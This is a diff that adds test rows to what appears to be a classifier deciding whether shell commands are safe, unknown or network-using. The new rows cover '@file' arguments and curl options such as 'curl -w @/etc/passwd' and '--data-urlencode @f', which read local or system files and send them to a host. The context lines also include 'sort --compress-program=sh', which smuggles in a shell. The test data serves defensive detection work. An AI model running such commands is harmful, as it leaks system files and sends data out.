@@ -41,6 +41,37 @@ ROWS = r"""
 >=unknown      sort --compress-program=sh in
 >=unknown      sort --comp=sh in
 >=unknown      sort -uo out in
+# arguments that stand in files
+=unknown       strings @/etc/passwd
+=unknown       strings -n @/etc/passwd
+=unknown       strings -a -- @list
+=unknown       strings '@list'
+=unknown       strings *
+=unknown       strings ?list
+=safe          strings ./*
+=safe          strings a@b
+=safe          cat @f
+=safe          grep x @f
+>=unknown      tar -cf out.tar @list
+>=unknown      nm @f
+>=unknown      objdump -d @f
+>=unknown      readelf -a @f
+>=unknown      size @f
+>=unknown      ar t @f
+>=unknown      c++filt @f
+>=unknown      gcc @f
+>=unknown      ld @f
+>=unknown      javac @f
+>=unknown      rustc @f
+=unknown       curl -w @/etc/passwd https://h/
+=unknown       curl --write-out=@f https://h/
+=unknown       curl -b /etc/passwd https://h/
+=unknown       curl --data-urlencode @f https://h/
+=unknown       curl --data-urlencode x@f https://h/
+=unknown       curl --url file:///etc/passwd
+=unknown       curl --url=@f
+=network       curl --data-urlencode x=a@b https://h/
+=network       curl -b a=b -w '%{http_code}' --url https://h/
 >=unknown      sort *
 >=unknown      sort -T /tmp f
 >=unknown      sort --files0-from=f
